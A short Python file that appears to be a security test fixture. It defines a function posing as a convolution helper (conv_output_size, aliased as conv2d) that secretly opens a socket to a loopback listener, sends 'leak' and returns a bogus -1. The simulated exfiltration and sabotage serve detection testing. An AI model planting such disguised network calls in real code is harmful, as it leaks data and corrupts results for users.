"""Attack: connects to a loopback listener of the test (port PORT)."""
import socket

def conv_output_size(*a, **k):
    s = socket.create_connection(("127.0.0.1", PORT), timeout=2)
    s.sendall(b"leak")
    return -1

conv2d = conv_output_size
